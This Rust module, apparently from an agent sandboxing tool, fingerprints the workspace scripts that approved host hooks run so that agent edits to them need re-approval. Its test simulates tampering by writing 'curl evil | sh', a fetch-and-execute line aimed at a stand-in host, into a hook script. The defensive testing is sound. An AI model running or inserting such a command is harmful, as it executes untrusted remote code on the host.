//! Host hooks run a command line the user approved, but the scripts it names usually live in
//! the workspace, which the agent writes. The approval records a digest of every workspace
//! file a hook names; a changed or new one is a widening, like a changed command.

use std::collections::BTreeMap;
use std::path::Path;

use sha2::{Digest, Sha256};

use super::protect::{plain, Kind};
use super::{hex, Widening};
use crate::config::Config;

/// Programs that run the file named by their first non-option argument.
const INTERPRETERS: [&str; 14] = [
    "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "node", "ruby", "perl",
    "source", ".", "make",
];

/// `relative path → sha256` of each regular file inside `root` that a hook of `config` runs:
/// the program of each command (`./scripts/dev.sh`), or the script an interpreter is given
/// (`sh dev.sh`, `make -f ci.mk`), relative to the project root or absolute below it.
/// Redirection targets and other arguments (files the hook writes or reads) do not count.
pub fn named_files(root: &Path, config: &Config) -> BTreeMap<String, String> {
    let hooks = [&config.hooks.post_up, &config.hooks.pre_down];
    let mut out = BTreeMap::new();
    for word in hooks.into_iter().flatten().flat_map(|cmd| run_words(cmd)) {
        let rel = match Path::new(&word).strip_prefix(root) {
            Ok(rel) => rel.to_path_buf(),
            Err(_) if word.starts_with('/') => continue,
            Err(_) => Path::new(&word).components().collect(),
        };
        let rel = crate::config::fields::mounts::normalize(&rel);
        if rel.as_os_str().is_empty() || !plain(root, &rel, Kind::File) {
            continue;
        }
        if let Ok(bytes) = std::fs::read(root.join(&rel)) {
            out.insert(rel.display().to_string(), hex(&Sha256::digest(&bytes)));
        }
    }
    out
}

/// The words of a shell command line that name something it runs (see [`named_files`]).
fn run_words(cmd: &str) -> Vec<String> {
    let spaced = cmd
        .replace("&&", ";")
        .replace("||", ";")
        .replace(['|', '&', '\n', '(', ')', '`'], ";");
    let mut out = Vec::new();
    for segment in spaced.split(';') {
        let mut words = segment
            .split_whitespace()
            .map(|w| w.trim_matches(|c| c == '"' || c == '\''))
            .filter(|w| !w.contains('=') || w.starts_with('-'));
        let mut skip_next = false;
        let mut words = std::iter::from_fn(|| loop {
            let w = words.next()?;
            if skip_next {
                skip_next = false;
                continue;
            }
            if w.starts_with(['>', '<']) || w.ends_with(['>', '<']) {
                skip_next = w.len() == 1 || w.ends_with(['>', '<']);
                continue;
            }
            return Some(w);
        });
        let Some(first) = words.next() else { continue };
        out.push(first.to_string());
        let program = first.rsplit('/').next().unwrap_or(first);
        if INTERPRETERS.contains(&program) {
            let mut after_f = false;
            for w in words.by_ref() {
                if w == "-f" || w == "--file" {
                    after_f = true;
                    continue;
                }
                if w.starts_with('-') {
                    continue;
                }
                out.push(w.to_string());
                if !after_f {
                    break;
                }
                after_f = false;
            }
        }
    }
    out
}

/// The hook files that are new or changed against the approved digests.
pub fn widenings(
    approved: &BTreeMap<String, String>,
    current: &BTreeMap<String, String>,
) -> Vec<Widening> {
    current
        .iter()
        .filter(|(path, digest)| approved.get(*path) != Some(digest))
        .map(|(path, _)| Widening {
            field: "hooks",
            detail: format!("{path}, which a hook runs, changed since it was approved"),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::trust::widen::tests::base;

    #[test]
    fn files_a_hook_names_are_digested_and_changes_widen() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::create_dir(root.join("scripts")).unwrap();
        std::fs::write(root.join("scripts/dev.sh"), "echo hi").unwrap();
        std::fs::write(root.join("Makefile"), "all:").unwrap();
        let mut c = base();
        c.hooks.post_up = Some(
            "sh ./scripts/dev.sh --fast > out.log && make -f Makefile; echo up >> Makefile.log"
                .into(),
        );
        std::fs::write(root.join("out.log"), "").unwrap();
        std::fs::write(root.join("Makefile.log"), "").unwrap();
        c.hooks.pre_down = Some(format!("{}/scripts/dev.sh; /bin/true", root.display()));
        let first = named_files(root, &c);
        assert_eq!(
            first.keys().collect::<Vec<_>>(),
            ["Makefile", "scripts/dev.sh"]
        );
        assert!(widenings(&first, &first).is_empty());
        std::fs::write(root.join("scripts/dev.sh"), "curl evil | sh").unwrap();
        let w = widenings(&first, &named_files(root, &c));
        assert_eq!(w.len(), 1);
        assert!(
            w[0].to_string().starts_with("hooks: scripts/dev.sh"),
            "{}",
            w[0]
        );
    }
}
